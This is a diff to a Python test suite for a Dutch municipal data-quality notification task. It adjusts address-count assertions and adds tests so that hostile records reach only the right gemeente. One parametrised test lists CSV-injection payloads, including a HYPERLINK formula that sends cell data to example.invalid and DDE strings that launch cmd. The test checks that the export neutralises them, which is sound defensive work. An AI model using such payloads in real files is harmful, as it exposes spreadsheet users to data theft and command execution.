@@ -104,7 +104,8 @@ def _meldingen(warehouse: str) -> list[tuple]:
 
 def test_each_gemeente_gets_one_mail_at_its_own_addresses(params, postbus):
     result = tasks.meld(params, "r1")
-    assert result == {"verzonden": 5, "niet_afgeleverd": 0, "geen_adres": 0, "geen_melding": 0}
+    # GM9999, a delivery folder named after no gemeente, has its finding but no address
+    assert result == {"verzonden": 5, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 0}
     assert sorted(a for m in postbus.berichten for a in m.aan) == sorted(ADRES.values())
     for code, adres in ADRES.items():
         (mail,) = postbus.voor(adres)
@@ -113,7 +114,9 @@ def test_each_gemeente_gets_one_mail_at_its_own_addresses(params, postbus):
         assert f"({code})" in mail.onderwerp and "peildatum 25-02-2025" in mail.onderwerp
         assert list(mail.bijlagen()) == [f"bevindingen_{code}_2025-02-25.csv"]
     rows = _meldingen(params["warehouse"])
-    assert [(r[0], r[2], r[3]) for r in rows] == [(c, "verzonden", 1) for c in sorted(ADRES)]
+    assert [(r[0], r[2], r[3]) for r in rows] == [(c, "verzonden", 1) for c in sorted(ADRES)] + [
+        ("GM9999", "geen_adres", 0)
+    ]
 
 
 def test_each_mail_holds_only_the_records_its_gemeente_may_read(params, postbus, run1):
@@ -255,7 +258,7 @@ def test_smtp_down_is_recorded_as_undelivered_and_does_not_fail(params, monkeypa
     monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", f"smtp://127.0.0.1:{port}?retry_limit=2&retry_delay=0")
     result = tasks.meld(params, "r1")
     assert result["niet_afgeleverd"] == 5 and result["verzonden"] == 0
-    rows = _meldingen(params["warehouse"])
+    rows = [r for r in _meldingen(params["warehouse"]) if r[0] != "GM9999"]  # no address: not tried
     assert len(rows) == 5
     for gm, aan, status, pogingen, fout, n, _ in rows:
         assert status == "niet_afgeleverd"
@@ -269,13 +272,13 @@ def test_no_smtp_connection_configured_is_recorded_too(params, monkeypatch):
     monkeypatch.delenv("AIRFLOW_CONN_SMTP_DEFAULT", raising=False)
     result = tasks.meld(params, "r1")
     assert result["niet_afgeleverd"] == 5
-    assert all("smtp_default ontbreekt" in r[4] for r in _meldingen(params["warehouse"]))
+    assert all("smtp_default ontbreekt" in r[4] for r in _meldingen(params["warehouse"]) if r[0] != "GM9999")
 
 
 def test_a_gemeente_without_address_is_recorded(params, postbus, tmp_path):
     p = {**params, "contacten": _contacten(tmp_path / "zonder.yml", codes=(LV, LEIDEN, OEGSTGEEST))}
     result = tasks.meld(p, "r1")
-    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 2, "geen_melding": 0}
+    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 3, "geen_melding": 0}
     status = {r[0]: r[2] for r in _meldingen(p["warehouse"])}
     assert status[VOORSCHOTEN] == status[WASSENAAR] == "geen_adres"
 
@@ -325,3 +328,62 @@ def test_reach_comes_from_dim_gemeente_once_dbt_built_it(params):
     assert not contacten.mag_lezen(LV, VOORSCHOTEN, "huisvesting", {LV: {VOORSCHOTEN}})
     assert not contacten.mag_lezen(VOORSCHOTEN, LV, "inburgering", {LV: {VOORSCHOTEN}})
     assert not contacten.mag_lezen(LV, None, "levering", {LV: {VOORSCHOTEN}})
+
+
+# --- hostile records (issue 8) ------------------------------------------------------------
+
+
+def test_a_record_goes_to_the_gemeente_that_delivered_it_whatever_its_woongemeente(params, postbus):
+    """Leiden's own dossier V-buiten-uitvoering says woongemeente Voorschoten (which LV executes
+    for): its findings go to Leiden, with a finding about the woongemeente itself, and to
+    neither Voorschoten nor Leidschendam-Voorburg."""
+    tasks.meld(params, "r1")
+
+    def rijen(code):
+        (mail,) = postbus.voor(ADRES[code])
+        return [r for r in mail.rijen() if r["klantnummer"] == "V-buiten-uitvoering"]
+
+    assert sorted((r["gemeentecode"], r["controle"]) for r in rijen(LEIDEN)) == [
+        (LEIDEN, "pip_zonder_leerroute"),
+        (LEIDEN, "woongemeente_buiten_uitvoering"),
+    ]
+    (finding,) = [r for r in rijen(LEIDEN) if r["controle"] == "woongemeente_buiten_uitvoering"]
+    assert finding["bevinding"] == "woongemeente GM0626 hoort niet bij de gemeenten van uitvoerder GM0546"
+    assert rijen(VOORSCHOTEN) == [] and rijen(LV) == [] and rijen(OEGSTGEEST) == []
+    # every municipal record in a mail was delivered by the recipient or by its uitvoerder
+    from quality_support import UITVOERDER as uitvoerder_van
+
+    for code, adres in ADRES.items():
+        (mail,) = postbus.voor(adres)
+        for r in mail.rijen():
+            if r["bestand"].startswith("gemeente/"):
+                assert r["bestand"].split("/")[1] in {code, uitvoerder_van[code]}, (code, r)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|'/C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "  =1+1",
+    ],  # fmt: skip
+)
+def test_attachment_cells_that_a_spreadsheet_would_run_are_neutralised(value):
+    """OWASP's advice on CSV injection: a leading single quote, every cell quoted."""
+    import csv
+    import io
+
+    from regie.quality.meldingen import CSV_KOLOMMEN, _csv
+
+    row = dict.fromkeys(CSV_KOLOMMEN, "")
+    row.update(klantnummer=value, bevinding=value, kenmerk=value, regel=7)
+    data = _csv([row]).decode("utf-8-sig")
+    (parsed,) = list(csv.DictReader(io.StringIO(data, newline=""), delimiter=";"))
+    for col in ("klantnummer", "bevinding", "kenmerk"):
+        assert parsed[col] == "'" + value, col
+    assert parsed["regel"] == "7"  # numbers stay numbers
+    assert data.splitlines()[1].startswith('"')  # every cell quoted
